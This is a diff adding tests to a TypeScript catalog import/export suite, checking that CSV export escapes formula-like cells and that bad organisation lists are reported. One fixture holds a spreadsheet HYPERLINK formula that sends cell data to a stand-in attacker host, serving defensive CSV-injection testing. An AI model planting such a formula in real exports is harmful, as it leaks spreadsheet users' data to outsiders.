@@ -1,5 +1,6 @@
 import type { INestApplicationContext } from '@nestjs/common';
 import { NestFactory } from '@nestjs/core';
+import { parse } from 'csv-parse/sync';
 import { DateTime } from 'luxon';
 import { OutboxRelayService } from '../../../src/modules/outbox/outbox-relay.service';
 import { WorkerModule } from '../../../src/worker.module';
@@ -204,6 +205,27 @@ describe('Catalog import and export', () => {
     expect(services.find((s: { code: string }) => s.code === 'RED-DATOS')).toMatchObject({ status: 'active', ownerOrganisation: 'SFIA', form: [{ key: 'ip' }] });
     const again = await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'json', services }).expect(200);
     expect(again.body).toEqual({ created: 0, updated: 2 });
+  });
+
+  it('exports formula-like cells neutralised, and imports its own export back unchanged', async () => {
+    const hostile = { code: 'FORMULA-1', name: '@Servicio', description: '=HYPERLINK("http://evil.example/?"&A1,"Ver detalle")', category: '+Soporte', subcategory: "'citado", type: 'both' };
+    await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'json', services: [hostile] }).expect(200);
+    const exported = await as(t.url, manager).get('/api/v1/catalog/services/export?format=csv').expect(200);
+    const rows = parse(exported.text) as string[][];
+    const dangerous = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
+    expect(dangerous).toEqual([]);
+    const row = rows.find((r) => r[0] === 'FORMULA-1')!;
+    expect(row.slice(1, 5)).toEqual(['\'@Servicio', `'${hostile.description}`, "'+Soporte", "''citado"]);
+
+    const again = await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'csv', content: exported.text }).expect(200);
+    expect(again.body.created).toBe(0);
+    const [stored] = await t.dataSource.query(`SELECT name, description, category, subcategory FROM catalog_services WHERE code = 'FORMULA-1'`);
+    expect(stored).toEqual({ name: hostile.name, description: hostile.description, category: hostile.category, subcategory: hostile.subcategory });
+  });
+
+  it('names a JSON row whose organisation list is not a list, instead of failing', async () => {
+    const res = await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'json', services: [{ code: 'LISTA-1', name: 'x', category: 'c', type: 'both', allowedOrganisations: 'SFIA' }] }).expect(400);
+    expect(res.body.errors.map((e: { field: string }) => e.field)).toEqual(['rows.0.allowedOrganisationIds']);
   });
 
   it('applies nothing when any row is bad, and reports every bad row', async () => {
